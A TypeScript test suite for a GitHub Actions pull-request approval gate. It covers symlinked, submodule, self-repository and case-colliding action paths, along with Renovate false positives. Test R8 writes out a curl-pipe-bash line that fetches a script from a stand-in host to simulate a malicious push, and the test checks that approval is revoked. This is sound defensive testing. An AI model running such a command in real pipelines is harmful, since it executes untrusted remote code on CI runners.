/**
 * The running workflow's reach and the base's gate steps, attacked as audit 10 did: the
 * self-repository form `$/`, an action checked out elsewhere (`./infra/...`), a Windows `.\\`
 * path, a strict gate in another repository's reusable workflow or behind an expression; and the
 * false positives the reading must not make (a scheduled workflow, many YAML aliases, a Renovate
 * bump). Each test asserts the safe or the ordinary behaviour.
 */
import { describe, expect } from 'vitest';
import { type FakeGitHub } from '../support/github-server.js';
import { ACTION_ENV, bumpCheckout, DANGEROUS, expectWriterApproves, expectWriterRefused, job, label, latest, wf, wfOnPaths, withSandboxPolicy, WORKFLOW, workflowChanged } from './gate-workflows.js';
import { analyzeRun, expectRun, openPullRequest, TEAM, test } from './scenario.js';

const DEV = '.github/workflows/dev.yml';
const SANDBOX_INPUTS = ['config-file: sandbox/tf-plan-guard.yml', 'block-on: none'];
const SANDBOX_WITH = { 'config-file': 'sandbox/tf-plan-guard.yml', 'block-on': 'none' };

/** A job whose gate is a local (composite) action: `uses: <path>`, no `with:` of the gate's own. */
function localActionJob(id: string, uses: string, checkout: string[] = ['      - uses: actions/checkout@v4']): string[] {
  return [`  ${id}:`, '    runs-on: ubuntu-latest', '    steps:', ...checkout, '      - name: Gate', `        uses: ${uses}`];
}
const composite = (inputs: string[], uses = 'acme/tf-plan-guard@v1') =>
  ['name: gate', 'runs:', '  using: composite', '  steps:', `    - uses: ${uses}`, '      with:', '        plan-file: db/plan.json', ...inputs.map((line) => `        ${line}`), ''].join('\n');
const runningFrom = (fake: FakeGitHub, path: string, number: number) => ({ ...ACTION_ENV, GITHUB_WORKFLOW_REF: `${fake.fullName}/${path}@refs/pull/${number}/merge` });


describe.concurrent('the reach: every form of a local reference, and a reference the reach cannot see', () => {
  const ACTION = '.github/actions/gate/action.yml';

  // Control: the plain layout W3 covers.
  // R1: actions/checkout with `path: infra` puts the repository at $GITHUB_WORKSPACE/infra, so the
  // workflow says `uses: ./infra/.github/actions/gate` (GitHub's docs: "If the action checks out the
  // repository to a location different than the workflow, the relative path used for local actions
  // must be updated"). The runner runs the PR's .github/actions/gate/action.yml; the reach looks for
  // infra/.github/actions/gate/action.yml in the repository (missing at base and head).
  test('R1 checkout path: uses ./infra/.github/actions/gate, the PR edits .github/actions/gate/action.yml', async ({ fake }) => {
    const pull = openPullRequest(fake, 1001);
    pull.files.push({ filename: ACTION, status: 'modified' });
    const checkout = ['      - uses: actions/checkout@v4', '        with:', '          path: infra'];
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './infra/.github/actions/gate', checkout)));
    fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
    fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
    // The runner passes the PR's composite's inputs: approvers carol.
    await expectWriterRefused(fake, 1001, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // R1b: the action directory is a symlink in the repository (.github/actions/gate -> ../../ci/gate).
  // The runner follows it on disk; the contents API does not resolve a path through a symlinked directory.
  // R0: GitHub's self-repository syntax (changelog 2026-07-30, "now the recommended way to compose
  // actions and reusable workflows within a repository"): `uses: $/path` resolves to the workflow's own
  // repository at the running commit, for steps, composite steps and reusable workflow calls alike.
  test('R0 self-repository action: uses $/.github/actions/gate, the PR edits its action.yml', async ({ fake }) => {
    const pull = openPullRequest(fake, 1005);
    pull.files.push({ filename: ACTION, status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', '$/.github/actions/gate', [])));
    fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
    fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
    await expectWriterRefused(fake, 1005, { approvers: 'carol' }, { ...ACTION_ENV });
  });
  test('R0b self-repository reusable workflow: jobs.plan.uses $/.github/workflows/gate.yml, the PR edits gate.yml', async ({ fake }) => {
    const GATE = '.github/workflows/gate.yml';
    const pull = openPullRequest(fake, 1006);
    pull.files.push({ filename: GATE, status: 'modified' });
    const caller = ['on: pull_request', 'jobs:', '  plan:', `    uses: $/${GATE}`, ''].join('\n');
    const called = (inputs: string[]) => ['on: workflow_call', 'jobs:', ...job('gate', inputs), ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, caller);
    fake.setFile(pull.baseSha, GATE, called(['approvers: olivia']));
    fake.setFile(pull.headSha, GATE, called(['approvers: carol']));
    await expectWriterRefused(fake, 1006, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // S8 (sound): a strict prod gate in a $/-called reusable workflow is still read by the base-step
  // reading, since reusable workflows live directly in .github/workflows and every one is listed.
  // R0c: the base-step reading (V1) misses a strict prod gate kept in a composite action used with `$/`.
  test('R0c prod gate in a $/ composite action (paths-filtered prod), dev local and loose: the PR edits dev', async ({ fake }) => {
    const PROD_ACTION = '.github/actions/prod-gate/action.yml';
    const pull = openPullRequest(fake, 1009);
    pull.files.push({ filename: DEV, status: 'modified' });
    withSandboxPolicy(fake, pull);
    const prod = wfOnPaths('envs/prod/**', localActionJob('plan', '$/.github/actions/prod-gate', []));
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, prod);
      fake.setFile(ref, PROD_ACTION, composite(['approvers: olivia']));
    }
    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
    await expectWriterRefused(fake, 1009, SANDBOX_WITH, runningFrom(fake, DEV, 1009));
  });

  // R1d: the action directory is a git submodule (checkout with `submodules: true`). The PR bumps the
  // submodule to a commit whose action.yml sets approvers: carol. GitHub's file list names the
  // submodule path (`tools/gate`, "Subproject commit …"); the contents API has no file inside a
  // submodule (404). The list is only that entry: nothing under .github/ is touched.
  test('R1d the gate action in a submodule: the PR bumps the submodule only', async ({ fake }) => {
    const pull = openPullRequest(fake, 1002);
    pull.files.splice(0, pull.files.length, { filename: 'tools/gate', status: 'modified' });
    const checkout = ['      - uses: actions/checkout@v4', '        with:', '          submodules: true'];
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './tools/gate', checkout)));
    const run = await expectWriterRefused(fake, 1002, { approvers: 'carol' }, { ...ACTION_ENV });
    expect(workflowChanged(run)?.details).toContain('modified: tools/gate');
  });

  // R1e: the action file itself is a symlink (.github/actions/gate/action.yml -> ../../../ci/gate.yml).
  // The contents API answers the path with the target's content (so the reach reads the real text), and
  // the PR's file list names the target, ci/gate.yml, the only file the PR edits.
  test('R1e a symlinked action.yml: the PR edits only its target', async ({ fake }) => {
    const TARGET = 'ci/gate.yml';
    const pull = openPullRequest(fake, 1004);
    pull.files.splice(0, pull.files.length, { filename: TARGET, status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './.github/actions/gate')));
      fake.setFile(ref, ACTION, { symlink: '../../../ci/gate.yml' });
    }
    fake.setFile(pull.baseSha, TARGET, composite(['approvers: olivia']));
    fake.setFile(pull.headSha, TARGET, composite(['approvers: carol']));
    const run = await expectWriterRefused(fake, 1004, { approvers: 'carol' }, { ...ACTION_ENV });
    expect(workflowChanged(run)?.message).toContain(`changes ${TARGET}, which the workflow that runs this check`);
  });

  // Audit 15: links and submodules the contents API does not read through, and a symlinked called workflow.
  test('H1b a symlinked called workflow: the PR edits only its target', async ({ fake }) => {
    const GATE = '.github/workflows/gate.yml';
    const TARGET = 'ci/gate-workflow.yml';
    const pull = openPullRequest(fake, 1503);
    pull.files.splice(0, pull.files.length, { filename: TARGET, status: 'modified' });
    const caller = ['on: pull_request', 'jobs:', '  plan:', `    uses: ./${GATE}`, ''].join('\n');
    const called = (inputs: string[]) => ['on: workflow_call', 'jobs:', ...job('gate', inputs), ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, caller);
      fake.setFile(ref, GATE, { symlink: '../../ci/gate-workflow.yml' });
    }
    fake.setFile(pull.baseSha, TARGET, called(['approvers: olivia']));
    fake.setFile(pull.headSha, TARGET, called(['approvers: carol']));
    await expectWriterRefused(fake, 1503, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // H2a: action.yml -> ci/gate.yml -> strict.yml at the base; the PR retargets the middle link to loose.yml.
  test('H2a chained file symlinks: the PR retargets the middle link only', async ({ fake }) => {
    const pull = openPullRequest(fake, 1511);
    pull.files.splice(0, pull.files.length, { filename: 'ci/gate.yml', status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './.github/actions/gate')));
      fake.setFile(ref, ACTION, { symlink: '../../../ci/gate.yml' });
      fake.setFile(ref, 'ci/strict.yml', composite(['approvers: olivia']));
      fake.setFile(ref, 'ci/loose.yml', composite(['approvers: carol']));
    }
    fake.setFile(pull.baseSha, 'ci/gate.yml', { symlink: 'strict.yml' });
    fake.setFile(pull.headSha, 'ci/gate.yml', { symlink: 'loose.yml' });
    await expectWriterRefused(fake, 1511, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // H2b: .github/actions/shared links to a submodule of shared actions; the PR bumps the submodule.
  test('H2b a symlinked directory into a submodule: the PR bumps the submodule', async ({ fake }) => {
    const pull = openPullRequest(fake, 1512);
    pull.files.splice(0, pull.files.length, { filename: 'vendor/ci-actions', status: 'modified' });
    const checkout = ['      - uses: actions/checkout@v4', '        with:', '          submodules: true'];
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './.github/actions/shared/gate', checkout)));
      fake.setFile(ref, '.github/actions/shared', { symlink: '../../vendor/ci-actions' });
      fake.setFile(ref, 'vendor/ci-actions', { submodule: 'https://github.com/acme/ci-actions.git' });
    }
    await expectWriterRefused(fake, 1512, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // H2c: .github/actions/gate -> ../../ci/gate, ci/gate -> strict (a directory); the PR retargets ci/gate -> loose.
  test('H2c chained directory symlinks: the PR retargets the second link only', async ({ fake }) => {
    const pull = openPullRequest(fake, 1513);
    pull.files.splice(0, pull.files.length, { filename: 'ci/gate', status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './.github/actions/gate')));
      fake.setFile(ref, '.github/actions/gate', { symlink: '../../ci/gate' });
      fake.setFile(ref, 'ci/strict/action.yml', composite(['approvers: olivia']));
      fake.setFile(ref, 'ci/loose/action.yml', composite(['approvers: carol']));
    }
    fake.setFile(pull.baseSha, 'ci/gate', { symlink: 'strict' });
    fake.setFile(pull.headSha, 'ci/gate', { symlink: 'loose' });
    await expectWriterRefused(fake, 1513, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // H4: on a case-insensitive runner (macOS, Windows) git writes the index in byte order: the PR's added
  // .github/actions/terraformgate/action.yml sorts after TerraformGate's and is the copy the runner reads.
  test('H4 macOS runner: the PR adds a case-colliding copy of the gate action', async ({ fake }) => {
    const REAL = '.github/actions/TerraformGate/action.yml';
    const COLLIDING = '.github/actions/terraformgate/action.yml';
    const pull = openPullRequest(fake, 1531);
    pull.files.push({ filename: COLLIDING, status: 'added' });
    const macJob = localActionJob('plan', './.github/actions/TerraformGate').map((line) => line.replace('ubuntu-latest', 'macos-latest'));
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(macJob));
      fake.setFile(ref, REAL, composite(['approvers: olivia']));
    }
    fake.setFile(pull.headSha, COLLIDING, composite(['approvers: carol']));
    await expectWriterRefused(fake, 1531, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // Audit 16 T1: `.github/actions/gate -> ../../ci/gate/` (a trailing slash, as shell completion writes it),
  // and ci/gate/action.yml -> gate.yml. The PR edits ci/gate/gate.yml.
  test('T1 a directory link with a trailing slash, then a file link: the PR edits the file at the end', async ({ fake }) => {
    const pull = openPullRequest(fake, 1602);
    pull.files.splice(0, pull.files.length, { filename: 'ci/gate/gate.yml', status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './.github/actions/gate')));
      fake.setFile(ref, '.github/actions/gate', { symlink: '../../ci/gate/' });
      fake.setFile(ref, 'ci/gate/action.yml', { symlink: 'gate.yml' });
    }
    fake.setFile(pull.baseSha, 'ci/gate/gate.yml', composite(['approvers: olivia']));
    fake.setFile(pull.headSha, 'ci/gate/gate.yml', composite(['approvers: carol']));
    await expectWriterRefused(fake, 1602, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // Audit 16 A1: an absolute link into the runner's own checkout (/home/runner/work/<repo>/<repo> on GitHub's
  // Linux runners) cannot be traced from the repository: any file the PR touches may be the gate.
  test('A1 action.yml -> /home/runner/work/infra/infra/ci/gate.yml (absolute, into the checkout): the PR edits ci/gate.yml', async ({ fake }) => {
    const pull = openPullRequest(fake, 1606);
    pull.files.splice(0, pull.files.length, { filename: 'ci/gate.yml', status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './.github/actions/gate')));
      fake.setFile(ref, ACTION, { symlink: '/home/runner/work/infra/infra/ci/gate.yml' });
    }
    fake.setFile(pull.baseSha, 'ci/gate.yml', composite(['approvers: olivia']));
    fake.setFile(pull.headSha, 'ci/gate.yml', composite(['approvers: carol']));
    await expectWriterRefused(fake, 1606, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // R1c: a Windows runner: the runner takes `.\` as a local path too (actions/runner
  // PipelineTemplateConverter: StartsWith("./") || StartsWith(".\\")).
  test('R1c backslash local path .\\.github\\actions\\gate (Windows runner): the PR edits its action.yml', async ({ fake }) => {
    const pull = openPullRequest(fake, 1003);
    pull.files.push({ filename: ACTION, status: 'modified' });
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', "'.\\.github\\actions\\gate'")));
    fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
    fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
    await expectWriterRefused(fake, 1003, { approvers: 'carol' }, { ...ACTION_ENV });
  });
});

describe.concurrent('base gate steps the reading cannot see count, read the strictest way', () => {
  // R2: prod's gate is an org-shared reusable workflow (another repository), path-filtered; dev's is a
  // local step writing the same check. The PR edits dev only (audit8 B1's shape). README: "while a PR
  // changes the running workflow, the inputs such a step sets read the strictest way".
  test('R2 prod gate in another repository\'s reusable workflow, dev local and loose: the PR edits dev', async ({ fake }) => {
    const pull = openPullRequest(fake, 1011);
    pull.files.push({ filename: DEV, status: 'modified' });
    withSandboxPolicy(fake, pull);
    const prod = ['on:', '  pull_request:', "    paths: ['envs/prod/**']", 'jobs:', '  plan:', '    uses: acme/shared-ci/.github/workflows/tf-plan-guard.yml@v1', '    with:', '      approvers: olivia', '    secrets: inherit', ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, prod);
    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
    await expectWriterRefused(fake, 1011, SANDBOX_WITH, runningFrom(fake, DEV, 1011));
  });

  // R2b: the same with prod's gate in another repository's composite action wrapping tf-plan-guard.
  // R6: the base step's whole `with:` is one expression (the runner's ConvertToStepInputs accepts an
  // ExpressionToken for it); the reading sees no inputs at all and takes every default as the base's word.
  test('R6 base gate step with: ${{ fromJSON(vars.GATE) }} (one expression): the PR changes the running workflow', async ({ fake }) => {
    const pull = openPullRequest(fake, 1014);
    pull.files.push({ filename: WORKFLOW, status: 'modified' });
    const base = ['on: pull_request', 'jobs:', '  plan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: acme/tf-plan-guard@v1', '        with: ${{ fromJSON(vars.PLAN_GUARD_INPUTS) }}', ''].join('\n');
    fake.setFile(pull.baseSha, WORKFLOW, base);
    fake.setFile(pull.headSha, WORKFLOW, wf(job('plan', ['approvers: carol'])));
    await expectWriterRefused(fake, 1014, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // R5: prod's step names its check by an expression that evaluates to the required check.
  test('R5 prod step check-name by expression, dev literal default: the PR edits dev', async ({ fake }) => {
    const pull = openPullRequest(fake, 1013);
    pull.files.push({ filename: DEV, status: 'modified' });
    withSandboxPolicy(fake, pull);
    const prod = wfOnPaths('envs/prod/**', job('plan', ['approvers: olivia', 'check-name: ${{ vars.PLAN_GUARD_CHECK }}']));
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, prod);
    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
    await expectWriterRefused(fake, 1013, SANDBOX_WITH, runningFrom(fake, DEV, 1013));
  });
});

describe.concurrent('workflows that never write the check, and other false positives', () => {
  // R3: one PR gate (approvers: carol, a writer) and a nightly drift workflow running tf-plan-guard
  // on schedule (no PR, so it never writes a PR's check) with other inputs. Renovate bumps checkout
  // in the PR gate's workflow. Before b0de287 (a0f4800) the drift workflow was not read: carol approved.
  test('R3 Renovate bump with a scheduled drift workflow beside: the listed approver (a writer) still approves', async ({ fake }) => {
    const DRIFT = '.github/workflows/drift.yml';
    const pull = openPullRequest(fake, 1021);
    bumpCheckout(fake, pull, ['approvers: carol']);
    const drift = ['on:', '  schedule:', "    - cron: '0 6 * * *'", 'jobs:', ...job('drift', ['comment: false', 'fail-on-block: true']), ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, DRIFT, drift);
    await expectWriterApproves(fake, 1021, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // Audit 12 F2: the drift gate lives in a local reusable workflow that only the scheduled drift
  // workflow calls; its inputs differ from the PR gate's. Renovate bumps the PR gate's workflow.
  test('F2 Renovate bump with a drift gate in a reusable workflow only a schedule calls: the listed approver approves', async ({ fake }) => {
    const DRIFT = '.github/workflows/drift.yml';
    const DRIFT_PLAN = '.github/workflows/drift-plan.yml';
    const pull = openPullRequest(fake, 1022);
    bumpCheckout(fake, pull, ['approvers: carol']);
    const drift = ['on:', '  schedule:', "    - cron: '0 6 * * *'", 'jobs:', '  drift:', `    uses: ./${DRIFT_PLAN}`, ''].join('\n');
    const driftPlan = ['on: workflow_call', 'jobs:', ...job('plan', ['comment: false', 'approvers: olivia']), ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, DRIFT, drift);
      fake.setFile(ref, DRIFT_PLAN, driftPlan);
    }
    await expectWriterApproves(fake, 1022, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // The same reusable workflow called by a PR workflow too (prod, paths-filtered) still counts: strictest.
  test('F2b the reusable drift gate also called by a paths-filtered PR workflow: its inputs count', async ({ fake }) => {
    const PROD = '.github/workflows/prod.yml';
    const GATE = '.github/workflows/gate.yml';
    const pull = openPullRequest(fake, 1025);
    bumpCheckout(fake, pull, ['approvers: carol']);
    const prod = ['on:', '  pull_request:', "    paths: ['envs/prod/**']", 'jobs:', '  plan:', `    uses: ./${GATE}`, ''].join('\n');
    const gate = ['on: workflow_call', 'jobs:', ...job('plan', ['approvers: olivia']), ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, PROD, prod);
      fake.setFile(ref, GATE, gate);
    }
    await expectWriterRefused(fake, 1025, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  // R7: GitHub parses anchors and aliases (since 2025-09); the reach's parser gives up past 100 aliases
  // (maxAliasCount: 100), so a running workflow using 101 small aliases makes the reach "incomplete":
  // an ordinary PR touching an unrelated workflow (terraform.yml, in every scenario PR's file list) is
  // then a workflow-changed PR read the strictest way.
  test('R7 running workflow with 101 aliases (env: *env per job): an ordinary PR touching another workflow', async ({ fake }) => {
    const pull = openPullRequest(fake, 1023);
    const jobs = Array.from({ length: 101 }, (_, index) => [`  lint${index}:`, '    runs-on: ubuntu-latest', '    env: *env', '    steps:', `      - run: echo ${index}`]).flat();
    const text = ['on: pull_request', 'env: &env', "  TF_IN_AUTOMATION: '1'", 'jobs:', ...job('plan', []), ...jobs, ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, text);
    const run = await analyzeRun(fake, 1023, { plan: DANGEROUS, env: { ...ACTION_ENV } });
    expectRun(run, 0);
    const approved = await label(fake, 1023, TEAM.writer, {}, { ...ACTION_ENV });
    expect(workflowChanged(run)).toBeUndefined();
    expect(approved.outputs['approved']).toBe('true');
  });

  // R8: with the reach incomplete (R7's 101 aliases), a touched action beyond it is bound by its list
  // entry, not its content: an admin's approval survives a later push that rewrites the file.
  test('R8 incomplete reach: approval of a touched action survives a push that changes its content', async ({ fake }) => {
    const OTHER = '.github/actions/plan/action.yml';
    const pull = openPullRequest(fake, 1024);
    pull.files.push({ filename: OTHER, status: 'modified' });
    const jobs = Array.from({ length: 101 }, (_, index) => [`  lint${index}:`, '    runs-on: ubuntu-latest', '    env: *env', '    steps:', `      - run: echo ${index}`]).flat();
    // The plan job makes its plan with the local action (the reach cannot tell: the file is "unreadable").
    const text = ['on: pull_request', 'env: &env', "  TF_IN_AUTOMATION: '1'", 'jobs:', ...job('plan', [], 'acme/tf-plan-guard@v1', ['      - uses: actions/checkout@v4', '      - uses: ./.github/actions/plan']), ...jobs, ''].join('\n');
    const planAction = (line: string) => ['name: plan', 'runs:', '  using: composite', '  steps:', `    - run: ${line}`, '      shell: bash', ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, text);
    fake.setFile(pull.baseSha, OTHER, planAction('terraform plan -out plan.tfplan'));
    fake.setFile(pull.headSha, OTHER, planAction('terraform plan -lock=false -out plan.tfplan'));
    const first = await analyzeRun(fake, 1024, { plan: DANGEROUS, env: { ...ACTION_ENV } });
    expectRun(first, 0);
    expect(workflowChanged(first)).toBeDefined();
    const approved = await label(fake, 1024, TEAM.admin, {}, { ...ACTION_ENV });
    expect(approved.outputs['approved']).toBe('true');
    const newHead = 'f'.repeat(40);
    fake.pushCommit(1024, TEAM.author, { sha: newHead });
    fake.setFile(newHead, WORKFLOW, text);
    fake.setFile(newHead, OTHER, planAction('curl -s https://example.invalid/x.sh | bash'));
    const second = await analyzeRun(fake, 1024, { plan: DANGEROUS, action: 'synchronize', env: { ...ACTION_ENV } });
    expectRun(second, 0);
    expect(second.outputs['approved']).toBe('false');
  });

  // R4: how many reads a changed running workflow costs in a repository with 299 workflows.
  test('S6 no false positive: Renovate bumps checkout in the only workflow: the writer approves', async ({ fake }) => {
    const pull = openPullRequest(fake, 1036);
    bumpCheckout(fake, pull, []);
    await expectWriterApproves(fake, 1036, {}, { ...ACTION_ENV });
  });

});

describe.concurrent('audit 12: the base reading meets what the running reach meets', () => {
  test('A1 prod gate via checkout path: uses ./infra/.github/actions/prod-gate (paths-filtered prod), dev loose: the PR edits dev', async ({ fake }) => {
    const PROD_ACTION = '.github/actions/prod-gate/action.yml';
    const pull = openPullRequest(fake, 1201);
    pull.files.push({ filename: DEV, status: 'modified' });
    withSandboxPolicy(fake, pull);
    const checkout = ['      - uses: actions/checkout@v4', '        with:', '          path: infra'];
    const prod = wfOnPaths('envs/prod/**', localActionJob('plan', './infra/.github/actions/prod-gate', checkout));
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, prod);
      fake.setFile(ref, PROD_ACTION, composite(['approvers: olivia']));
    }
    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
    await expectWriterRefused(fake, 1201, SANDBOX_WITH, runningFrom(fake, DEV, 1201));
  });

  test('A1c prod gate via .//: dev loose: the PR edits dev', async ({ fake }) => {
    const PROD_ACTION = '.github/actions/prod-gate/action.yml';
    const pull = openPullRequest(fake, 1203);
    pull.files.push({ filename: DEV, status: 'modified' });
    withSandboxPolicy(fake, pull);
    const prod = wfOnPaths('envs/prod/**', localActionJob('plan', './/.github/actions/prod-gate'));
    for (const ref of [pull.baseSha, pull.headSha]) {
      fake.setFile(ref, WORKFLOW, prod);
      fake.setFile(ref, PROD_ACTION, composite(['approvers: olivia']));
    }
    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
    await expectWriterRefused(fake, 1203, SANDBOX_WITH, runningFrom(fake, DEV, 1203));
  });

  test('F1 Renovate bump, a lint workflow calls org/shared reusable workflow: the listed approver (writer) approves', async ({ fake }) => {
    const LINT = '.github/workflows/lint.yml';
    const pull = openPullRequest(fake, 1211);
    bumpCheckout(fake, pull, ['approvers: carol']);
    const lint = ['on: pull_request', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    uses: acme/shared/.github/workflows/lint.yml@main', ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, LINT, lint);
    await expectWriterApproves(fake, 1211, { approvers: 'carol' }, { ...ACTION_ENV });
  });


  // audit 13: whichever repository a checkout names, an action under its path is still the PR's to edit.
  test('B1 this repository checked out by name under path infra, the gate action there: the PR edits the action', async ({ fake }) => {
    const GATE_ACTION = '.github/actions/gate/action.yml';
    const pull = openPullRequest(fake, 1301);
    pull.files.push({ filename: GATE_ACTION, status: 'modified' });
    const checkout = ['      - uses: actions/checkout@v4', '        with:', `          repository: ${fake.fullName}`, '          path: infra'];
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './infra/.github/actions/gate', checkout)));
    fake.setFile(pull.baseSha, GATE_ACTION, composite(['approvers: olivia']));
    fake.setFile(pull.headSha, GATE_ACTION, composite(['approvers: carol']));
    await expectWriterRefused(fake, 1301, { approvers: 'carol' }, { ...ACTION_ENV });
  });

  test('FA1 a push-only release workflow using an action under a checkout path does not make a Renovate bump strictest', async ({ fake }) => {
    const RELEASE = '.github/workflows/release.yml';
    const pull = openPullRequest(fake, 1311);
    bumpCheckout(fake, pull, ['approvers: carol']);
    const release = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '        with:', '          path: src', '      - uses: ./src/.github/actions/build', ''].join('\n');
    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, RELEASE, release);
    await expectWriterApproves(fake, 1311, { approvers: 'carol' }, { ...ACTION_ENV });
  });
});
